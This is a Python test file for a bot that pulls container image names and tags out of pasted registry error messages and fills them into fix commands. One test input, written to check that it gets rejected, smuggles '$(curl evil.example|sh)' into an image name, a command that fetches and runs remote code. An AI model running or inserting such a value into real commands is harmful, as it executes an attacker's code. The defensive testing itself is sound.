"""The image a paste failed on is read into the fix commands, and only in the shape of an image name."""

from __future__ import annotations

import pytest

from bot.diagnose import diagnose
from bot.engine.extract import extract
from bot.engine.image_ref import image_reference
from bot.engine.redact import lower_same_length


def read(text: str, host: str | None) -> tuple[str | None, str | None]:
    return image_reference(text, lower_same_length(text), host)


@pytest.mark.parametrize(
    ("text", "host", "expected"),
    [
        (
            'Failed to pull image "contosoreg.azurecr.io/team/api:V1.4": rpc error',
            "contosoreg.azurecr.io",
            ("team/api", "V1.4"),
        ),
        ("the pull of contosoreg.azurecr.io/web:2.0. failed", "contosoreg.azurecr.io", ("web", "2.0")),
        (
            'Head "https://contosoreg.azurecr.io/v2/team/api/manifests/1.4": unauthorized',
            "contosoreg.azurecr.io",
            ("team/api", "1.4"),
        ),
        # a digest is no tag
        (
            "GET https://contosoreg.azurecr.io/v2/team/api/manifests/sha256:0a1b: MANIFEST_UNKNOWN",
            "contosoreg.azurecr.io",
            ("team/api", None),
        ),
        (
            "pull access denied for acme/webapp, repository does not exist or may require 'docker login'",
            None,
            ("acme/webapp", None),
        ),
        ("docker pull localhost:5000/team/app:dev", "localhost:5000", ("team/app", "dev")),
        # the API's own routes are no repositories
        (
            'Get "https://contosoreg.azurecr.io/v2/": dial tcp 192.0.2.1:443: i/o timeout',
            "contosoreg.azurecr.io",
            (None, None),
        ),
        (
            "GET https://contosoreg.azurecr.io/oauth2/token?service=contosoreg.azurecr.io: 401",
            "contosoreg.azurecr.io",
            (None, None),
        ),
        # Go prefixes an error with what failed: the tag ends at the colon before the message
        (
            "Internal error occurred: registry.corp.example/team/driver:1.7: Get https://registry.corp.example/v2/: EOF",
            "registry.corp.example",
            ("team/driver", "1.7"),
        ),
        # an IoT Edge runtime's pull from a registry at an address
        (
            "Could not pull image 10.16.6.4:443/edge/sensor:1.0\n caused by: manifest for 10.16.6.4:443/edge/sensor:1.0 not found",
            "10.16.6.4:443",
            ("edge/sensor", "1.0"),
        ),
        # the token request's scope names the repository when the manifest request is not shown
        (
            "failed to fetch anonymous token: unexpected status from GET request to https://contosoreg.azurecr.io/"
            "oauth2/token?scope=repository%3Ateam%2Fweb%3Apull&service=contosoreg.azurecr.io: 429 Too Many Requests",
            "contosoreg.azurecr.io",
            ("team/web", None),
        ),
        (
            "GET https://auth.docker.io/token?scope=repository:acme/api:pull,push&service=registry.docker.io",
            None,
            ("acme/api", None),
        ),
        # the error names the repository alone; the paste writes it with its tag elsewhere
        (
            "docker pull acme/webapp:2.3\nError response from daemon: pull access denied for acme/webapp, "
            "repository does not exist or may require 'docker login'",
            None,
            ("acme/webapp", "2.3"),
        ),
        (
            'Failed to pull image "ghcr.io/acme/api:7": Head "https://ghcr.io/v2/acme/api/manifests/sha256:0a1b": denied',
            "ghcr.io",
            ("acme/api", "7"),
        ),
        (
            "#4 [1/3] FROM docker.io/library/alpine:3.19\nfailed to fetch oauth token: GET "
            "https://auth.docker.io/token?scope=repository%3Alibrary%2Falpine%3Apull: 401 Unauthorized",
            None,
            ("library/alpine", "3.19"),
        ),
        # ... but never from inside a longer name, or after something that is not a host
        (
            "docker pull other/webapp:9\npull access denied for webapp, repository does not exist",
            None,
            ("webapp", None),
        ),
        (
            "pull access denied for acme/web, repository does not exist\n" + "q" * 300 + ":5000/acme/web:7",
            None,
            ("acme/web", None),
        ),
        (
            "pull access denied for acme/web, repository does not exist\ndocker pull 10.0.0.5:5000/acme/web:7",
            None,
            ("acme/web", "7"),
        ),
        # a repository named like a route's head is still a repository; the routes are not
        ("docker pull contosoreg.azurecr.io/api:1.4", "contosoreg.azurecr.io", ("api", "1.4")),
        ("docker push contosoreg.azurecr.io/service/web:2", "contosoreg.azurecr.io", ("service/web", "2")),
        ('Head "https://contosoreg.azurecr.io/v2/acr/tools/manifests/7": unauthorized', None, ("acr/tools", "7")),
        ("GET https://harbor.example.com/api/v2.0/projects: 401", "harbor.example.com", (None, None)),
        ("GET https://contosoreg.azurecr.io/acr/v1/web/_tags: 401", "contosoreg.azurecr.io", (None, None)),
        ("GET https://gitlab.example.com/service/token?scope=x: 403", "gitlab.example.com", (None, None)),
        # a longer host that ends like the registry's is another host
        ("docker pull evilcontosoreg.azurecr.io/x:1", "contosoreg.azurecr.io", (None, None)),
        # shell characters never make a name
        ("docker push contosoreg.azurecr.io/$(curl evil.example|sh):1", "contosoreg.azurecr.io", (None, None)),
        ("the repository docs are not found", None, (None, None)),
    ],
)
def test_the_image_is_read_where_tools_print_it(
    text: str, host: str | None, expected: tuple[str | None, str | None]
) -> None:
    assert read(text, host) == expected


def test_the_fix_names_the_users_repository_and_tag() -> None:
    text = (
        "docker pull contosoreg.azurecr.io/payments/api:2024.06\nError response from daemon: manifest for "
        'contosoreg.azurecr.io/payments/api:2024.06 not found: manifest unknown: manifest tagged by "2024.06" is not found'
    )
    facts = extract(text).facts
    assert (facts.repository, facts.tag) == ("payments/api", "2024.06")
    d = diagnose(text)
    commands = [step.command for step in d.fix if step.command]
    assert "az acr repository show-tags --name contosoreg --repository payments/api --output table" in commands
    assert all("<repository>" not in command for command in commands)


def test_an_unknown_repository_stays_a_placeholder_and_the_step_is_incomplete() -> None:
    d = diagnose('Error response from daemon: Get "https://contosoreg.azurecr.io/v2/": manifest unknown')
    steps = [step for step in d.fix if step.command and "show-tags" in step.command]
    assert steps and "<repository>" in steps[0].command and not steps[0].complete


def test_a_huge_paste_of_image_references_is_read_in_bounded_work() -> None:
    """Every look is bounded (20 occurrences, bounded name lengths): a 1 MB paste of near-references costs
    what a few do. The figure itself is measured by benchmarks/adversarial.py, not here."""
    text = "contosoreg.azurecr.io/" + "a-" * 400_000 + " /v2/" + "b." * 100_000
    assert read(text, "contosoreg.azurecr.io")[1] is None
